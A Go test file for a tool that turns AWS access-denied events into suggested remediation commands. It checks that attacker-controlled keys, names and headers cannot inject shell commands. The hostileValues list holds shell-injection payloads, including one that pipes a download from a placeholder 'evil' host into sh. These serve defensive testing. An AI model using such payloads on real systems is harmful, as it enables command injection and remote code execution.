package classify

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// hostileValues are values an attacker can put in an object key, a
// bucket or role name or a request header, each aimed at the shell a
// suggested command is pasted into.
var hostileValues = []string{
	`x'; curl -s http://evil/x|sh; '`,
	`$(touch pwned-dollar)`,
	"`touch pwned-backtick`",
	`a; touch pwned-semicolon`,
	"a\ntouch pwned-newline\n",
	`*`,
	`dir/*/?/$HOME/x`,
	`"; touch pwned-dq; "`,
	"\u202etxt.exe\\'\x01",
}

// jsonInner is s JSON-encoded, without the surrounding quotes, so that it
// can replace text inside a JSON string.
func jsonInner(t testing.TB, s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	return string(b[1 : len(b)-1])
}

// replaceIn returns an edit that replaces old with new inside every
// string of an event (new is JSON-escaped).
func replaceIn(t testing.TB, old, new string) func(map[string]any) map[string]any {
	return func(m map[string]any) map[string]any {
		b := strings.ReplaceAll(string(raw(t, m)), old, jsonInner(t, new))
		var out map[string]any
		if err := json.Unmarshal([]byte(b), &out); err != nil {
			t.Fatal(err)
		}
		return out
	}
}

// sseKMSHeader returns an edit that makes S3 events ask for SSE-KMS with
// the key header h.
func sseKMSHeader(h string) func(map[string]any) map[string]any {
	return func(m map[string]any) map[string]any {
		if m["eventSource"] != "s3.amazonaws.com" {
			return m
		}
		return with(m, "requestParameters.x-amz-server-side-encryption", "aws:kms",
			"requestParameters.x-amz-server-side-encryption-aws-kms-key-id", h)
	}
}

// TestHostileValuesInCommands runs, for every hostile value as object key
// and as SSE-KMS key header, every command of every control's remediation
// in bash (and zsh when installed), with aws a shell function that records
// its arguments: no payload may run, every command must arrive as exactly
// its Argv, and a hostile object key must arrive inside one argument,
// unchanged.
func TestHostileValuesInCommands(t *testing.T) {
	var shells []string
	for _, sh := range []string{"bash", "zsh"} {
		if p, err := exec.LookPath(sh); err == nil {
			shells = append(shells, p)
		}
	}
	for _, h := range hostileValues {
		for _, where := range []string{"object key", "kms key header"} {
			var edit func(map[string]any) map[string]any
			if where == "object key" {
				edit = replaceIn(t, objectKey, h)
			} else {
				edit = sseKMSHeader(h)
			}
			cases := remediationCasesWith(t, edit)
			var cmds []Command
			named := 0
			for _, tc := range cases {
				f := tc.f
				checkCommands(t, tc.name, f.Commands)
				if !printable(f.Cause) || !printable(f.Remediation) {
					t.Errorf("%s: cause or remediation holds a control character: %q, %q", tc.name, f.Cause, f.Remediation)
				}
				for _, c := range f.Commands {
					if slices.ContainsFunc(c.Argv, func(a string) bool { return strings.Contains(a, h) }) {
						named++
					}
					if where == "kms key header" && slices.Contains(c.Argv, h) {
						t.Errorf("%s: the hostile KMS key header went into a command: %s", tc.name, c.Line)
					}
				}
				if where == "kms key header" && f.Layer == LayerKMS && strings.Contains(f.Remediation, "key "+h) && !strings.Contains(f.Remediation, "not a valid KMS key ID") {
					t.Errorf("%s: hostile KMS key without a hint: %s", tc.name, f.Remediation)
				}
				cmds = append(cmds, f.Commands...)
			}
			if where == "object key" && named == 0 {
				t.Errorf("%q as %s: no command names it, so nothing was tested", h, where)
			}
			for _, sh := range shells {
				runInShell(t, sh, fmt.Sprintf("%q as %s", h, where), cmds)
			}
		}
	}
	if len(shells) == 0 {
		t.Skip("no bash or zsh: the commands were checked by the word splitter only")
	}
}

// runInShell runs the command lines, one a line, in shell with aws, curl
// and sh as functions, and checks what aws received and that the working
// directory stays empty.
func runInShell(t *testing.T, shell, what string, cmds []Command) {
	t.Helper()
	work, argvDir := t.TempDir(), t.TempDir()
	var script strings.Builder
	script.WriteString("aws() { printf '%s\\0' \"$@\" > \"$ARGV/$N\"; }\n")
	script.WriteString("curl() { : > pwned-curl; }\nsh() { : > pwned-sh; }\n")
	for i, c := range cmds {
		fmt.Fprintf(&script, "N=%d\n%s\n", i, c.Line)
	}
	path := filepath.Join(argvDir, "script")
	if err := os.WriteFile(path, []byte(script.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	args := []string{"--norc", "--noprofile", path}
	if filepath.Base(shell) == "zsh" {
		args = []string{"-f", path}
	}
	cmd := exec.Command(shell, args...)
	cmd.Dir = work
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "ARGV=" + argvDir, "HOME=" + work}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Errorf("%s: %s: %v\n%s", what, shell, err, out)
	}
	if ents, _ := os.ReadDir(work); len(ents) > 0 {
		var names []string
		for _, e := range ents {
			names = append(names, e.Name())
		}
		t.Errorf("%s: %s: a payload ran and created %v", what, shell, names)
	}
	for i, c := range cmds {
		b, err := os.ReadFile(filepath.Join(argvDir, strconv.Itoa(i)))
		if err != nil {
			t.Errorf("%s: %s: aws never ran for %s", what, shell, c.Line)
			continue
		}
		got := strings.Split(strings.TrimSuffix(string(b), "\x00"), "\x00")
		if !slices.Equal(got, c.Argv[1:]) {
			t.Errorf("%s: %s split\n  %s\ninto %q, want %q", what, shell, c.Line, got, c.Argv[1:])
		}
	}
}

// checkCommands checks the properties every command has: one line, which
// a POSIX shell splits into exactly Argv, starting with aws, a kind and a
// summary, and policy documents that are valid JSON.
func checkCommands(t testing.TB, name string, cmds []Command) {
	t.Helper()
	for _, c := range cmds {
		if strings.ContainsAny(c.Line, "\n\r") {
			t.Errorf("%s: command spans lines: %q", name, c.Line)
		}
		if c.Kind != Check && c.Kind != Fix || c.Summary == "" || len(c.Argv) < 3 || c.Argv[0] != "aws" {
			t.Errorf("%s: malformed command %+v", name, c)
		}
		got, err := splitShellWords(c.Line)
		if err != nil {
			t.Errorf("%s: %v in %q", name, err, c.Line)
		} else if !slices.Equal(got, c.Argv) {
			t.Errorf("%s: %q splits into %q, want %q", name, c.Line, got, c.Argv)
		}
		for i, a := range c.Argv {
			if i > 0 && c.Argv[i-1] == "--policy-document" && !json.Valid([]byte(a)) {
				t.Errorf("%s: policy document is not JSON: %s", name, a)
			}
		}
	}
}

// splitShellWords splits a line into words by the POSIX shell's quoting
// rules (bare words, '…', \c, "…", and $'…' as bash, zsh and POSIX 2024
// read it), and fails on anything a shell would expand or treat as an
// operator outside quotes: $, `, ;, &, |, <, >, (, ), globs, braces, ~, #,
// !, ^, a leading =, and control characters.
func splitShellWords(line string) ([]string, error) {
	var words []string
	var cur strings.Builder
	in := false
	for i := 0; i < len(line); {
		c := line[i]
		switch {
		case c == ' ':
			if in {
				words = append(words, cur.String())
				cur.Reset()
				in = false
			}
			i++
			continue
		case c == '\'':
			j := strings.IndexByte(line[i+1:], '\'')
			if j < 0 {
				return nil, errors.New("unterminated single quote")
			}
			cur.WriteString(line[i+1 : i+1+j])
			i += j + 2
		case c == '\\':
			if i+1 >= len(line) || line[i+1] < ' ' {
				return nil, errors.New("backslash at the end or before a control character")
			}
			cur.WriteByte(line[i+1])
			i += 2
		case c == '$' && i+1 < len(line) && line[i+1] == '\'':
			n, err := ansiQuoted(line[i+2:], &cur)
			if err != nil {
				return nil, err
			}
			i += 2 + n
		case c == '"':
			i++
			for ; i < len(line) && line[i] != '"'; i++ {
				switch line[i] {
				case '$', '`':
					return nil, fmt.Errorf("live %q inside double quotes", line[i])
				case '\\':
					if i+1 < len(line) && strings.IndexByte("$`\"\\", line[i+1]) >= 0 {
						i++
					}
				}
				cur.WriteByte(line[i])
			}
			if i >= len(line) {
				return nil, errors.New("unterminated double quote")
			}
			i++
		case c < ' ' || c >= 0x7f || strings.IndexByte("$`;&|<>()*?[]{}~#!^\"", c) >= 0 || c == '=' && !in:
			return nil, fmt.Errorf("unquoted %q at %d", c, i)
		default:
			cur.WriteByte(c)
			i++
		}
		in = true
	}
	if in {
		words = append(words, cur.String())
	}
	return words, nil
}

// ansiQuoted reads the body of $'…' up to its closing quote into b and
// returns how many bytes it took, the quote included.
func ansiQuoted(s string, b *strings.Builder) (int, error) {
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c == '\'':
			return i + 1, nil
		case c < ' ' || c == 0x7f:
			return 0, errors.New("raw control character inside $'…'")
		case c != '\\':
			b.WriteByte(c)
			continue
		}
		i++
		if i >= len(s) {
			break
		}
		switch e := s[i]; e {
		case 'x':
			if i+2 >= len(s) {
				return 0, errors.New(`short \x escape`)
			}
			v, err := strconv.ParseUint(s[i+1:i+3], 16, 8)
			if err != nil {
				return 0, fmt.Errorf(`bad \x escape: %w`, err)
			}
			b.WriteByte(byte(v))
			i += 2
		case '\\', '\'', '"', '?':
			b.WriteByte(e)
		case 'n':
			b.WriteByte('\n')
		case 't':
			b.WriteByte('\t')
		case 'r':
			b.WriteByte('\r')
		default:
			return 0, fmt.Errorf(`escape \%c the splitter does not read`, e)
		}
	}
	return 0, errors.New("unterminated $'…'")
}

// TestShellQuote pins the quoting of the hard cases.
func TestShellQuote(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"arn:aws:s3:::b/k.csv", "arn:aws:s3:::b/k.csv"},
		{"", "''"},
		{"a b", "'a b'"},
		{"it's", `'it'\''s'`},
		{"'", `\'`},
		{"''", `\'\'`},
		{"=x", "'=x'"},
		{"a=b", "a=b"},
		{"*", "'*'"},
		{"a\nb", `$'a\x0ab'`},
		{"x'\n", `$'x\x27\x0a'`},
		{"!a\n", `$'\x21a\x0a'`},
		{"!a", "'!a'"},
		{"\u202e", `$'\xe2\x80\xae'`},
		{"é", "'é'"},
		{"\xff", `$'\xff'`},
	} {
		if got := shellQuote(tc.in); got != tc.want {
			t.Errorf("shellQuote(%q) = %s, want %s", tc.in, got, tc.want)
		}
		if w, err := splitShellWords(shellQuote(tc.in)); err != nil || len(w) != 1 || w[0] != tc.in {
			t.Errorf("%s splits into %q (%v), want [%q]", shellQuote(tc.in), w, err, tc.in)
		}
	}
}

// TestIAMLiteral: characters IAM reads as wildcards or variables in a
// Resource are escaped, so that a literal key matches only itself.
func TestIAMLiteral(t *testing.T) {
	if got, want := iamLiteral("a*b?c$d${*}"), "a${*}b${?}c${$}d${$}{${*}}"; got != want {
		t.Errorf("iamLiteral = %s, want %s", got, want)
	}
}

// TestGrantScope: a suggested grant covers the key's folder, or the bucket
// only when saying so; a grant to another account on a key without a
// folder names just that key, a literal * escaped.
func TestGrantScope(t *testing.T) {
	for _, tc := range []struct {
		key         string
		cross       bool
		res, saying string
	}{
		{"reports/2024/q3.csv", false, "arn:aws:s3:::dest-bucket/reports/2024/*", `the key's folder "reports/2024/"`},
		{"reports/2024/q3.csv", true, "arn:aws:s3:::dest-bucket/reports/2024/*", `the key's folder "reports/2024/"`},
		{"*", true, "arn:aws:s3:::dest-bucket/${*}", `only the denied key "*"`},
		{"*", false, "arn:aws:s3:::dest-bucket/*", "every object in bucket dest-bucket (the key has no folder"},
		{"a*/b?$/c", true, "arn:aws:s3:::dest-bucket/a${*}/b${?}${$}/*", `the key's folder "a*/b?$/"`},
		{"q3.csv", true, "arn:aws:s3:::dest-bucket/q3.csv", `only the denied key "q3.csv"`},
	} {
		e := mustParse(t, raw(t, with(s3Base(), "requestParameters.key", tc.key)))
		f := newFacts(e)
		res, scope := f.s3Grant(tc.cross)
		if res != tc.res || !strings.Contains(scope, tc.saying) {
			t.Errorf("s3Grant(%q, cross %v) = %s, %q; want %s, saying %q", tc.key, tc.cross, res, scope, tc.res, tc.saying)
		}
	}
}

// TestCrossAccountGrantOnStarKey: the case: a cross-account caller
// whose key is * is never offered the whole bucket.
func TestCrossAccountGrantOnStarKey(t *testing.T) {
	found := false
	for _, tc := range remediationCasesWith(t, replaceIn(t, objectKey, "*")) {
		f := tc.f
		text := remedyText(f.Remediation, f.Commands)
		if f.Control == ControlBucketPolicy && f.PrincipalAccount != f.ResourceAccount && f.ResourceAccount != "" && f.PrincipalAccount != "anonymous" {
			found = true
			if strings.Contains(text, `"Resource":"arn:aws:s3:::dest-bucket/*"`) || !strings.Contains(text, `dest-bucket/${*}`) {
				t.Errorf("%s: cross-account grant on key *: %s", tc.name, text)
			}
		}
		if strings.Contains(text, `arn:aws:s3:::dest-bucket/*"`) && !strings.Contains(f.Remediation, "every object in bucket dest-bucket") {
			t.Errorf("%s: grants the whole bucket without saying so: %s", tc.name, text)
		}
	}
	if !found {
		t.Fatal("no cross-account bucket-policy case")
	}
}

// FuzzCommands builds findings from fuzzed object keys, bucket and role
// names, Regions and SSE-KMS key headers, and checks that every command
// is one line that a POSIX shell splits into exactly its Argv and that
// every policy document is valid JSON.
func FuzzCommands(f *testing.F) {
	for i, h := range hostileValues {
		f.Add(uint8(i), h, "dest-bucket", "Uploader", "us-east-1", "")
		f.Add(uint8(i+7), objectKey, h, h, h, h)
	}
	f.Add(uint8(3), "a/b", "b", "r", "eu-west-1", keyARN)
	cases := judgeCases()
	f.Fuzz(func(t *testing.T, sel uint8, key, bucketName, role, region, kmsKey string) {
		tc := cases[int(sel)%len(cases)]
		m := tc.event
		b := string(raw(t, m))
		for _, r := range [][2]string{{objectKey, key}, {"dest-bucket", bucketName}, {"Uploader", role}, {"us-east-1", region}} {
			b = strings.ReplaceAll(b, r[0], jsonInner(t, r[1]))
		}
		if err := json.Unmarshal([]byte(b), &m); err != nil {
			return
		}
		if kmsKey != "" {
			m = sseKMSHeader(kmsKey)(m)
		}
		e, err := Parse(raw(t, m))
		if err != nil || !e.Failed() {
			return
		}
		v := Judge(e)
		checkCommands(t, tc.name, v.Commands)
		if v.Cause == "" {
			t.Errorf("%s: no cause", tc.name)
		}
		if sel%8 == 0 {
			u := replaceIn(t, objectKey, key)(upload("u", at(48, 45)))
			k := replaceIn(t, objectKey, key)(with(viaS3("k", at(48, 45)), "errorMessage",
				"User: "+sessionARN+" is not authorized to perform: kms:GenerateDataKey on resource: "+keyARN+" because no resource-based policy allows the kms:GenerateDataKey action"))
			for _, fd := range runEngine(t, EngineConfig{}, u, k) {
				checkCommands(t, "incident", fd.Commands)
			}
		}
	})
}
